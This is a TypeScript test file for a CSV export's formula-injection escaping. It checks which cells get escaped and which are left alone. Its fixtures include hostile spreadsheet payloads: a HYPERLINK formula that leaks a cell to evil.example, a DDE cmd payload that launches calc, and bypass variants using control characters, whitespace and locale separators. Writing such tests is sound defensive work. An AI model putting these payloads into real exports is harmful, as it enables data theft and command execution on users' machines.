import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { unparseLine } from "./csv-line";
import { formulaSafe, isFormulaLike } from "./formula-safe";

// Each cell on its own line, as the portal's CSV writer (unparseLine) writes it; the golden file
// pins the bytes. LF endings are kept by fixtures/.gitattributes.
const CELLS = [
  // Formulas at the start of the cell.
  "=1+1",
  "+1",
  "-1+1",
  "@SUM(A1)",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "-",
  "-x",
  // Control characters a spreadsheet may drop before it looks.
  "\t=1+1",
  "\r=1+1",
  "\tplain",
  "\u0000=1",
  // Leading whitespace, then a formula.
  " =1+1",
  "   @SUM(A1)",
  "\u00A0=1",
  // A separator, then a formula: semicolon locales split an unquoted cell at ';'.
  "x;=1+1",
  "x; =1+1",
  'x;"=1+1',
  "Smith,=1",
  "a;+1",
  "a;@x",
  "a;-1+1",
  // Left alone: negative amounts, ordinary text, separators without formulas.
  "-12.50",
  "-3",
  "x;-12.50",
  "Smith",
  "O'Brien",
  "a;b",
  "12.50",
  "Line 2: amount -12.50; expected 5 or 6",
  "",
];

describe("isFormulaLike", () => {
  it.each([
    "=1+1",
    "+1",
    "-1+1",
    "@SUM(A1)",
    "-",
    "\t=1",
    "\rx",
    "\nx",
    "\u0000",
    " =1",
    "\u00A0+1",
    "x;=1+1",
    "x; =1+1",
    'x;"=1',
    "x;'=1",
    "x,=1",
    "x\t=1",
    "x\n=1",
    "a;-1+1",
    "a;-x",
  ])("escapes %j", (cell) => {
    expect(isFormulaLike(cell)).toBe(true);
    expect(formulaSafe(cell)).toBe(`'${cell}`);
  });

  it.each(["-12.50", "-3", " -12.50", "x;-12.50", "a; -3 ", "Smith", "a;b", "a=b", "1+1", "user@example.com", "", "'=1"])(
    "leaves %j as it is",
    (cell) => {
      expect(isFormulaLike(cell)).toBe(false);
      expect(formulaSafe(cell)).toBe(cell);
    },
  );
});

describe("unparseLine", () => {
  it("writes the hostile cells exactly as the golden file", () => {
    const written = CELLS.map((cell) => unparseLine([cell])).join("");
    expect(written).toBe(readFileSync(new URL("./fixtures/golden-formula-safe.csv", import.meta.url), "utf8"));
  });

  it("quotes every escaped cell, so a semicolon locale keeps it one cell", () => {
    expect(unparseLine(["x;=1+1", "-12.50", "ok"])).toBe(`"'x;=1+1",-12.50,ok\n`);
    expect(unparseLine([" =1+1"])).toBe(`"' =1+1"\n`);
  });
});
